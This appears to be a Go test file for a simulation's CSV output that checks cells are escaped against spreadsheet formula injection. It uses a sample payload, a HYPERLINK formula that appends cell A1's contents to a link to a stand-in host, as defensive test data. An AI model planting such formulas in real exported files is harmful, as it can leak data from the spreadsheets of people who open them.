package results_test

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"hourglass/sim/experiment"
	"hourglass/sim/results"
)

func TestSafeCell(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"", ""},
		{"baseline", "baseline"},
		{`=HYPERLINK("http://example.com","x")`, `'=HYPERLINK("http://example.com","x")`},
		{"+note", "'+note"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"\r=1", "'\r=1"},
		{"-", "'-"},
		{"+", "'+"},
		{"-1+2", "'-1+2"},
		{"-2e3)", "'-2e3)"},
		{"-Inf", "'-Inf"},
		{"+Inf", "'+Inf"},
		{"-NaN", "'-NaN"},
		{"-e5", "'-e5"},
		{"-1e", "'-1e"},
		{"-.", "'-."},
		// numbers stay numbers
		{"-1.5", "-1.5"},
		{"-3e-05", "-3e-05"},
		{"+2", "+2"},
		{"-0", "-0"},
		{"-.5", "-.5"},
		{"-5.", "-5."},
		{"-1.25E+10", "-1.25E+10"},
		{"1e-05", "1e-05"},
		{"NaN", "NaN"}, // no formula: left alone
	} {
		if got := results.SafeCell(tt.in); got != tt.want {
			t.Errorf("SafeCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// Every CSV file neutralises text cells a spreadsheet would run as
// formulas, and leaves negative numbers alone.
func TestCSVFormulaInjection(t *testing.T) {
	const evil = `=HYPERLINK("http://example.com/?"&A1,"click")`
	dir := t.TempDir()
	e, m, worlds := comparison(t, experiment.Shard{})
	e.Scenarios[1].Name, m.Scenarios[1].Name = evil, evil
	w, err := results.NewWriter(dir, m, worlds, results.Options{PerReplication: true})
	if err != nil {
		t.Fatal(err)
	}
	finish(t, e, w, m)
	// sources.csv goes through WriteCSV
	if err := results.WriteCSV(filepath.Join(dir, results.SourcesFile), [][]string{
		{"scenario", "entry", "field", "value", "source_or_assumption"},
		{evil, "@place", "-x", "-1.5", "+assumption: set by hand"},
	}); err != nil {
		t.Fatal(err)
	}
	files, _ := filepath.Glob(filepath.Join(dir, "*.csv"))
	if len(files) < 10 {
		t.Fatalf("only %d CSV files: %v", len(files), files)
	}
	negatives := 0
	for _, path := range files {
		f, err := os.Open(path)
		if err != nil {
			t.Fatal(err)
		}
		r := csv.NewReader(f)
		r.FieldsPerRecord = -1
		rows, err := r.ReadAll()
		f.Close()
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		name := filepath.Base(path)
		found := false
		for _, row := range rows {
			for _, cell := range row {
				if cell == "" {
					continue
				}
				if cell == "'"+evil {
					found = true
				}
				switch cell[0] {
				case '=', '@', '\t', '\r':
					t.Errorf("%s: a cell a spreadsheet runs: %q", name, cell)
				case '+', '-':
					if _, err := strconv.ParseFloat(cell, 64); err != nil {
						t.Errorf("%s: a cell a spreadsheet runs: %q", name, cell)
					}
					negatives++
				}
				if strings.HasPrefix(cell, "'-") {
					if _, err := strconv.ParseFloat(cell[1:], 64); err == nil {
						t.Errorf("%s: a number made text: %q", name, cell)
					}
				}
			}
		}
		if !found {
			t.Errorf("%s: no cell %q", name, "'"+evil)
		}
	}
	if negatives == 0 {
		t.Error("no negative number in any table: the test shows nothing about them")
	}
	src, _ := os.ReadFile(filepath.Join(dir, results.SourcesFile))
	if want := "'@place,'-x,-1.5,'+assumption: set by hand\n"; !strings.HasSuffix(string(src), want) {
		t.Errorf("sources.csv ends %q, want %q", src[max(0, len(src)-60):], want)
	}
}
